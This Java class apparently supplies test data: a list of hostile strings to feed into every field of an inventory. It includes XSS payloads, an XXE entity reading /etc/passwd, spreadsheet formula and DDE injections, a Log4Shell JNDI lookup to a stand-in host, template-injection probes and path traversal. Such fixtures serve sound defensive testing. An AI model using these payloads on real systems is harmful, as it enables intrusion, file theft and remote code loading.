package dev.slipway.delivery.inventory;

import java.util.List;

/** Texts that make programs act which read or show them, for each field of an inventory. */
public final class HostileValues {
  public static final List<String> ALL =
      List.of(
          "<script>alert(1)</script>",
          "\"><img src=x onerror=alert(1)>",
          "'><svg/onload=alert(1)>",
          "</script><script>alert(1)//",
          "</title><a href=javascript:alert(1)>x</a>",
          "javascript:alert(1)",
          "data:text/html,<script>alert(1)</script>",
          "<!--", // begins a comment
          "]]><x/>",
          "&lt;b&gt;&#x3c;&amp;&unknown;",
          "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
          "=HYPERLINK(\"http://evil.example\",\"click\")",
          "+1+cmd|' /C calc'!A0",
          "-2+3",
          "@SUM(1,1)",
          "\t=1+1",
          "\r\n=1+1",
          "\uFF1D1+1",
          "a,b;c\"d\"\"e",
          "line 1\nline 2\r\nline 3\rline 4",
          "\u001B[31mred\u001B[0m\u0007\b",
          "\u202Egnp.exe\u202C\u2066x\u2069\u200B\uFEFF",
          "\uD83D\uDE00 \u65E5\u672C\u8A9E e\u0301 \u00DF",
          "\uD83D half \uDC00",
          "\u0000\u0001\uFFFE\uFFFF\u0085\u2028\u2029",
          "{\"a\": [1, 2]} # comment: x",
          "- &a *a !!python/object:os.system ? : | > %",
          "yes",
          "0x1F",
          "2026-11-30",
          "~",
          "@all /close #1 !1 [a](http://evil.example) | `x` ![i](http://evil.example/i.png)",
          "../../../etc/passwd",
          "CON",
          "a..b",
          "A_B",
          "__proto__",
          "https://user:secret@evil.example/a?b=c#d",
          "%00%0d%0a%3Cscript%3E",
          "${jndi:ldap://evil.example/a} {{7*7}} <%= 7*7 %> %s%n",
          "x".repeat(300),
          " ",
          "");

  private HostileValues() {}
}
